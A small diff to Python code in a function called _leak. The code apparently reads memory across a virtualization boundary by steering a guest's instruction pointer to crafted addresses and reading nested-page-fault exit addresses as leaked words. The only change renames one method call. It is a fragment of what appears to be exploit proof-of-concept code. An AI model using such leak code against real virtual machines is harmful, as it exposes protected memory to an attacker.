@@ -164,7 +164,7 @@ def _leak(cpu: Spoofed, there: int) -> list[bytes | None]:
     for index in range(WORDS):
         high = 0xFFFF << 48 if index >= WORDS // 2 else 0
         cpu.registers["rip"] = high | index << 39
-        exit = cpu.runner.run(blocks=100)
+        exit = cpu.cpu.run(blocks=100)
         address = gpa_of(exit.info_2) & -PAGE
         leaked = exit.code == NPF and address != there
         words.append(struct.pack("<Q", address) if leaked else None)
